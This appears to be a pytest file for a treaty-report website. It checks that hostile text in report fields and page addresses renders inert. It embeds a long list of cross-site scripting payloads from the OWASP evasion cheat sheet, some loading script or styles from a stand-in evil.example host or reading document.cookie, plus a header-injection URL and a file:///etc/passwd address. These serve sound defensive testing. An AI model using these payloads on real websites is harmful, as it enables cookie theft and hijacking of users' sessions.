"""Whatever a report, its title, its publisher or its address holds stays text: nothing runs, loads or leads away."""

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from site_in_browser import Served, serving, unfold

from foedus.gathering.inputs import gather
from foedus.journal.record import Journal
from foedus.pipeline import add, load_reference

# The forms of the OWASP XSS filter evasion cheat sheet: tags, attributes, schemes, encodings, broken markup, style, SVG.
STRINGS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<img src=javascript:alert(1)>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "javascript:alert(1)",
    "jav&#x09;ascript:alert(1);",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example><input name=q></form>",
    "<a href='javascript:alert(1)'>click</a>",
    "{{ 7 * 7 }}{% raw %}",
    "<!--#exec cmd='ls'--><![CDATA[<script>alert(1)</script>]]>",
    "\u202eevil\u202c<b onmouseover=alert(1)>bold</b>",
    # Malformed and half open markup.
    "<a onmouseover=alert(document.cookie)>a link</a>",
    "<a foo=bar onmouseover=alert(1)//>half a link",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=//evil.example/.j>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<IMG SRC=\"('XSS')\"",
    "<iframe src=https://evil.example/a.html <",
    "<IMG SRC='vbscript:msgbox(1)'",
    "</script><script >alert(1)</script >",
    '\\";alert(1);//',
    "';alert(String.fromCharCode(88,83,83))//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
    "<SCRIPT/XSS SRC=https://evil.example/xss.js></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<SCRIPT a='>' SRC=https://evil.example/xss.js></SCRIPT>",
    "<SCRIPT>document.write('<SCRI');</SCRIPT>PT SRC=https://evil.example/xss.js></SCRIPT>",
    # Encodings, and signs that a parser may skip.
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    "java\x01script:alert(1)",
    " javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "%6Aavascript:alert(1)",
    "+ADw-SCRIPT+AD4-alert(1)+ADw-/SCRIPT+AD4-",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # Elements that load, style or lead away.
    "<INPUT TYPE=IMAGE SRC=javascript:alert(1)>",
    "<BODY BACKGROUND=https://evil.example/b.png>",
    "<IMG DYNSRC=javascript:alert(1) LOWSRC=javascript:alert(1)>",
    "<STYLE>li {list-style-image: url(javascript:alert(1));}</STYLE><UL><LI>item",
    "<BGSOUND SRC=https://evil.example/a.mid>",
    "<LINK REL=stylesheet HREF=https://evil.example/x.css>",
    "<IMG STYLE='xss:expr/*XSS*/ession(alert(1))'>",
    "<XSS STYLE='behavior: url(https://evil.example/x.htc);'>",
    "<FRAMESET><FRAME SRC=javascript:alert(1)></FRAMESET>",
    "<TABLE BACKGROUND=javascript:alert(1)><TD BACKGROUND=javascript:alert(1)>",
    "<OBJECT TYPE=text/x-scriptlet DATA=https://evil.example/s.html></OBJECT>",
    "<EMBED SRC=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+ ALLOWSCRIPTACCESS=always>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><a xlink:href=javascript:alert(1)>click</a></math>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>more</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<META HTTP-EQUIV='Set-Cookie' Content='a=<script>alert(1)</script>'>",
    "<XML ID=I><X><C><![CDATA[<IMG SRC=j]]><![CDATA[avascript:alert(1)>]]></C></X></XML>",
    "<a href=//evil.example/>protocol relative</a>",
    "//evil.example/",
    "https://evil.example@evil.example:1/%0d%0aSet-Cookie:a=b",
    "ftp://evil.example/x",
    "file:///etc/passwd",
)
TOGETHER = tuple(" ".join(STRINGS[n : n + 15]) for n in range(0, len(STRINGS), 15))
"""The same, several in one text: whichever is not kept inert shows."""
SCHEMES = tuple(words for words in STRINGS if ":" in words.partition("<")[0].partition(",")[0])
"""Those that do harm where they are a whole address."""
REPORT = (
    "ACCRA, May 4 (Example Wire) - Ghana and Norway signed the {0} Fisheries Treaty on May 4, 2031 in Oslo. "
    'Foreign Minister {0} of Ghana said the treaty was "purely defensive {0}".\n\n{0}\n'
)
WHOLE = tuple(words for words in STRINGS if "<" not in words)
MARKUP = tuple(words for words in STRINGS if "<" in words)
HELD = (*((words,) for words in WHOLE), *(MARKUP[n : n + 9] for n in range(0, len(MARKUP), 9)))
"""What each hostile report holds: what could be a whole address alone, and markup together; whichever is not kept inert shows."""
STRANGE = """() => [
  ...document.querySelectorAll('img, iframe, object, embed, base, meta[http-equiv], style, script:not([src])'),
  ...document.querySelectorAll('[onerror], [onload], [onmouseover], [style]'),
  ...[...document.querySelectorAll('a[href], form[action], link[href], script[src]')].filter(e => {
    const to = new URL(e.getAttribute('href') ?? e.getAttribute('action') ?? e.getAttribute('src'), location.href);
    return !['http:', 'https:'].includes(to.protocol) || (to.origin !== location.origin && !e.matches('a[rel~=nofollow][rel~=noopener]'));
  }),
].map(e => e.outerHTML.slice(0, 120))"""
"""Elements that no page of the site has, and links elsewhere that are not marked as such."""


def hostile_reports(path: Path, **more: str) -> Path:
    """A file of reports with hostile words in whatever they tell of themselves, and in sentences of each."""
    lines = []
    for held in HELD:
        words, text = " ".join(held), "\n\n".join(map(REPORT.format, held))
        lines.append(json.dumps({"id": words, "text": text, "title": words, "publisher": words, "url": words, **more}))
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder: Path = tmp_path_factory.mktemp("hostile")
    file = hostile_reports(folder / "reports.jsonl", published="2031-05-05")
    with Journal.open(folder / "foedus.db") as journal:
        for _ in add(journal, gather([str(file)]), load_reference()):
            pass
        with serving(journal) as site:
            yield site


def test_hostile_reports_stay_inert_on_every_page(visit, hostile: Served) -> None:
    documents = [one.id for one in hostile.journal.listed(limit=2 * len(HELD))]
    assert len(documents) == len(HELD)
    treaties = [f"/treaties/{treaty.id}" for treaty in hostile.library.edition.treaties]
    assert treaties
    compared = "/compare?" + "&".join(f"r={id_}" for id_ in documents[:6])
    pages = ["/treaties", "/reports", "/compare", compared, "/search?q=fisheries", *treaties]
    page = visit("/", 390, site=hostile)
    for path in ["/", *pages, *(f"/reports/{id_}" for id_ in documents)]:
        page.goto(hostile.url + path)
        unfold(page)
        assert page.evaluate(STRANGE) == [], path
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, path


@pytest.mark.parametrize(
    "path",
    ["/search?q={}", "/treaties?q={}", "/treaties?on={}", "/treaties/{}", "/reports/{}", "/reports?q={}", "/compare?r={}",
     "/compare?q={}", "/obligations?treaty={}", "/obligations?predicate={0}&who={0}&whom={0}", "/{}", "/?since={}"],
)  # fmt: skip
def test_what_an_address_holds_stays_inert(visit, hostile: Served, path: str) -> None:
    page = visit("/", site=hostile)
    for words in (*TOGETHER, *SCHEMES):
        page.goto(hostile.url + path.format(quote(words, safe="")))
        assert page.evaluate(STRANGE) == [], words
